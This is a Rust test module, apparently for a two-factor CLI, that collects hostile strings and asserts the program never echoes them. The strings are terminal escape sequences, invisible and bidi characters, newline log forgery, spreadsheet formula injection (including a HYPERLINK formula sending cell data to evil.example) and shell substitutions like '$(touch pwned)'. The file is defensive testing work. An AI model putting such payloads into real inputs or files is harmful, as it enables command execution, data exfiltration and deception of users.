//! The texts with which names attack, one by one and all in one, and what no
//! output may hold of them. Written down a second time, not asked of the
//! library: a mistake there shall not hide itself.

use serde_json::Value;

use crate::harness::Exchange;

/// What stands at the beginning of each line that a name would begin.
const SECOND_LINE: &str = "forged";

/// Attacks on whoever looks, each by itself.
pub(super) const VALUES: &[&str] = &[
    "clears\u{1b}[2J\u{1b}[1;1Hthe screen",
    "clipboard\u{1b}]52;c;aGFjaw==\u{7}by bell",
    "clipboard\u{1b}]52;c;aGFjaw==\u{1b}\\by terminator",
    "link\u{1b}]8;;https://evil.example\u{1b}\\text\u{1b}]8;;\u{1b}\\",
    "title\u{1b}]0;owned\u{7}",
    "reports\u{1b}[6n\u{1b}[c\u{5}",
    "charset\u{1b}(0lqqk\u{e}",
    "device\u{1b}P+q544e\u{1b}\\",
    "c1\u{9b}2J\u{9b}31m",
    "c1\u{9d}52;c;aGk=\u{9c}",
    "backwards\u{202e}fdp.exe",
    "isolates\u{2066}a\u{2067}b\u{2068}c\u{2069}",
    "marks\u{200e}\u{200f}\u{061c}",
    "unseen\u{200b}\u{200c}\u{2060}\u{feff}\u{ad}\u{3164}\u{34f}\u{e0041}",
    "line\nforged",
    "line\r\nforged",
    "line\rforged",
    "line\u{85}forged",
    "line\u{2028}forged\u{2029}forged",
    "line\u{b}forged\u{c}forged",
    "erased\u{8}\u{8}\u{8}\u{8}\u{7f}",
    "column\tcolumn",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"x\")",
    "+1",
    "-1",
    "@SUM(1+1)",
    "\u{a0}=1+1",
    "\u{7}\t=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "cell;=1+1",
    "cell; \t@SUM(1)",
    "\",=1+1,\"",
    "\"\n=1+1",
    "back\\slash 'single' \"double\" `touch pwned` $(touch pwned)",
    "a|b&c>d<e;f*?[g]{h}~!#i %s %n %1$s ${IFS}",
    "--yes",
    "null",
    "👩\u{200d}⚕\u{fe0f} and 👨\u{200d}👩\u{200d}👧",
    "Zoë Ｏ'Ｎeill 山田",
];

/// Many of them in one name, within its 200 characters.
pub(crate) const WORST: &str = "=cmd|'/C calc'!A0;=1\u{1b}[2J\u{1b}]52;c;aGk=\u{7}\
    \u{1b}]52;c;aGk=\u{1b}\\\u{1b}]8;;http://e.example\u{1b}\\x\u{9b}2J\u{9d}0;t\u{9c}\
    \u{202e}\u{2066}\u{2069}\u{200f}\u{feff}\u{2028}forged\u{85}forged\r\nforged\t\"\\$(touch pwned)\
    `touch pwned`%s\u{8}\u{7f}!";

/// The worst login there can be: it is one word of what is seen.
pub(crate) const LOGIN: &str = "=a;$(touch${IFS}pwned)'\"`touch${IFS}pwned`|&<>!*?{b,c}[d]~\\#é";

/// The worst address.
pub(super) const ADDRESS: &str = "=1+1;$(touch${IFS}pwned)'\"@evil.example";

/// The worst ticket.
pub(super) const TICKET: &str = "=cmd|'/C'!A0;$(touch${IFS}pwned)";

/// The worst name for apps to list accounts under.
pub(super) const ISSUER: &str = "C'linic $(touch pwned)";

/// A name of many marks over one letter.
pub(super) fn tower() -> String {
    format!("Z{}", "\u{301}\u{489}".repeat(99))
}

/// Whether a character drives a terminal, reorders what is read or is not seen.
pub(super) fn attacks(c: char) -> bool {
    let bidirectional = ['\u{61c}', '\u{200e}', '\u{200f}'].contains(&c)
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c);
    let unseen = ['\u{ad}', '\u{34f}', '\u{3164}', '\u{200b}', '\u{200c}', '\u{200d}', '\u{feff}']
        .contains(&c)
        || ('\u{2060}'..='\u{2064}').contains(&c)
        || ('\u{e0000}'..='\u{e007f}').contains(&c);
    let ends_lines = ['\u{85}', '\u{2028}', '\u{2029}'].contains(&c);
    c.is_control() || bidirectional || unseen || ends_lines
}

/// Nothing that attacks leaves the program, and no record begins a second line.
#[track_caller]
pub(super) fn assert_harmless(what: &str, exchange: &Exchange) {
    for stream in [&exchange.stdout, &exchange.stderr] {
        let found = stream.chars().find(|c| *c != '\n' && attacks(*c));
        assert_eq!(found, None, "{what}\n{exchange:?}");
        let begun = stream.lines().find(|line| line.trim_start().starts_with(SECOND_LINE));
        assert_eq!(begun, None, "{what}\n{exchange}");
    }
}

/// Every text in a document, the names of its fields as well.
pub(super) fn texts(document: &Value) -> Vec<&str> {
    match document {
        Value::String(text) => vec![text],
        Value::Array(items) => items.iter().flat_map(texts).collect(),
        Value::Object(fields) => fields
            .iter()
            .flat_map(|(name, value)| [vec![name.as_str()], texts(value)].concat())
            .collect(),
        Value::Null | Value::Bool(_) | Value::Number(_) => Vec::new(),
    }
}

#[test]
fn the_worst_names_are_names() {
    use twofactl::model::text::{DisplayName, TicketId, is_hostile};
    use twofactl::model::user::{EmailAddress, Login};
    for name in VALUES.iter().copied().chain([WORST, &tower()]) {
        assert_eq!(DisplayName::parse(name).unwrap().as_str(), name.trim());
        let missed: String = name.chars().filter(|c| attacks(*c) && !is_hostile(*c)).collect();
        assert_eq!(missed, "", "the library takes it for harmless");
    }
    Login::parse(LOGIN).unwrap();
    EmailAddress::parse(ADDRESS).unwrap();
    TicketId::parse(TICKET).unwrap();
}
